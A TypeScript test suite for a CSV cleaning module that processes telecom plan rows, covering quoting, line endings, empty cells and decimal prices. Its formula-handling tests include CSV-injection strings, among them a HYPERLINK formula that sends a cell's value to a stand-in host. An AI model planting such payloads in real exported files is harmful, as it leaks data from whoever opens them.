import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { type CleanedFile, cleanText, codes } from './cleaning.ts'

const COLUMNS = ['plan_id', 'plan_name', 'monthly_price', 'roaming_enabled', 'plan_category'] as const
type Plan = Readonly<Record<(typeof COLUMNS)[number], string>>

const plan = (id: string, over: Partial<Plan> = {}): Plan => ({
  plan_id: id,
  plan_name: 'Plan',
  monthly_price: '9.90',
  roaming_enabled: 'Y',
  plan_category: 'Basic',
  ...over,
})

/** A cell as RFC 4180 has it. */
const cellOf = (text: string, isQuoted = false): string =>
  isQuoted || /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text

/** How a file is written: its line ends, and whether cells are quoted that need not be. */
interface Style {
  readonly end: string
  readonly isQuoted: boolean
}
const PLAIN: Style = { end: '\n', isQuoted: false }

const recordOf = (row: Plan, { isQuoted }: Style): string => COLUMNS.map(name => cellOf(row[name], isQuoted)).join(',')

function fileOf(records: readonly string[], { end }: Style): string {
  return [COLUMNS.join(','), ...records].map(record => `${record}${end}`).join('')
}

const cleanPlans = (rows: readonly Plan[], style = PLAIN): Promise<CleanedFile> =>
  cleanText(
    'plans',
    fileOf(
      rows.map(row => recordOf(row, style)),
      style,
    ),
  )

const names = ({ good }: CleanedFile): readonly unknown[] => good.map(({ values }) => values.plan_name)

/** Texts of what CSV, JSON and the files between the steps use as marks. */
const cell = fc
  .array(
    fc.oneof(
      fc.constantFrom('"', '""', ',', '\n', '\r\n', '\r', ';', '\t', "'", '\\', '\\n', '{', '}', '[', ']', ':', ' '),
      fc.constantFrom('\u0001', '\u0002', '\u0002a', '\\u0001', '\u000b', '\u007f', '\u0085', '\u2028', '|', 'NaN'),
      fc.constantFrom('a', 'é', '𝄞', '0', '12345678901234567890', 'null', 'NULL', '-'),
    ),
    { minLength: 1, maxLength: 8 },
  )
  .map(parts => parts.join(''))

describe('CSV', () => {
  for (const style of [PLAIN, { end: '\r\n', isQuoted: true }, { end: '\r', isQuoted: true }]) {
    it(`F25: any cell comes back as it was written, with ${JSON.stringify(style)}`, async () => {
      const cells = fc.sample(cell, { seed: 20250101, numRuns: 1500 })
      const rows = cells.map((text, at) => plan(`p${at}`, { plan_name: text }))
      const cleaned = await cleanPlans(rows, style)
      expect(cleaned.bad).toEqual([])
      expect(names(cleaned)).toEqual(cells)
    })

    it(`F25: a row that is quarantined keeps its text over all its lines, with ${JSON.stringify(style)}`, async () => {
      const cells = fc.sample(cell, { seed: 20250102, numRuns: 500 })
      const records = cells.map((text, at) => {
        const record = recordOf(plan(`p${at}`, { plan_name: text, plan_category: 'None' }), style)
        return at % 3 === 0 ? `${record},${cellOf(text, style.isQuoted)}` : record
      })
      const cleaned = await cleanText('plans', fileOf(records, style))
      expect(cleaned.good).toEqual([])
      expect(cleaned.bad.map(({ raw }) => raw)).toEqual(records)
      expect(cleaned.bad.map(({ code }) => code)).toEqual(
        records.map((_, at) => (at % 3 === 0 ? 'COLUMN_COUNT' : 'NOT_ACCEPTED')),
      )
    })
  }

  it('F25: rows count the lines of the cells before them', async () => {
    const rows = ['one', 'two\nlines', 'x', 'three\r\nmore\r\nlines', 'last'].map((text, at) =>
      plan(`p${at}`, { plan_name: text, plan_category: at === 4 ? 'None' : 'Basic' }),
    )
    const cleaned = await cleanPlans(rows)
    // A record's line is the one on which it ends.
    expect(cleaned.good.map(({ line }) => line)).toEqual([2, 4, 5, 8])
    expect(codes(cleaned.bad)).toEqual([[9, 'NOT_ACCEPTED']])
  })

  it('F25: spaces around a cell belong to it, and a cell of nothing is no value', async () => {
    const records = ['p1, name ,1,Y,Basic', 'p2,"",1,Y,Basic', 'p3,,1,Y,Basic', 'p4,"""",1,,Basic', 'p5," ",1,Y,Basic']
    const { good, bad } = await cleanText('plans', fileOf(records, PLAIN))
    expect(good.map(({ values }) => [values.plan_id, values.plan_name, values.roaming_enabled])).toEqual([
      ['p1', ' name ', 'true'],
      ['p4', '"', null],
      ['p5', ' ', 'true'],
    ])
    expect(codes(bad)).toEqual([
      [3, 'MISSING_REQUIRED'],
      [4, 'MISSING_REQUIRED'],
    ])
  })

  it('F28: a cell that starts like a formula is stored as it is', async () => {
    const formulas = [
      '=1+1',
      '+1',
      '-1',
      '@SUM(A1)',
      '=HYPERLINK("http://x/?"&A1,"a")',
      '\t=1',
      '\r=1',
      "'=1",
      '-',
      '=',
    ]
    const cleaned = await cleanPlans(formulas.map((text, at) => plan(`p${at}`, { plan_name: text })))
    expect(cleaned.bad).toEqual([])
    expect(names(cleaned)).toEqual(formulas)
  })

  it('F28: a number that starts like a formula is a number only if it is one', async () => {
    const prices = ['-5', '-0.50', '+5', '=5', '@5', '-', '--5', '-5-5']
    const { good, bad } = await cleanPlans(prices.map((price, at) => plan(`p${at}`, { monthly_price: price })))
    expect(good.map(({ values }) => values.monthly_price)).toEqual(['-5.00', '-0.50'])
    expect(codes(bad)).toEqual([4, 5, 6, 7, 8, 9].map(line => [line, 'BAD_TYPE']))
  })

  it('a number with more decimals than its type has is quarantined, not rounded', async () => {
    const prices = ['9.9', '9.90', '9.900', '9.999', '9.990000000001', '10000000000', '12345678.90', '9.9900000000001']
    const { good, bad } = await cleanPlans(prices.map((price, at) => plan(`p${at}`, { monthly_price: price })))
    expect(good.map(({ values }) => values.monthly_price)).toEqual(['9.90', '9.90', '9.90', '12345678.90'])
    expect(codes(bad)).toEqual([5, 6, 7, 9].map(line => [line, 'BAD_TYPE']))
  })
})
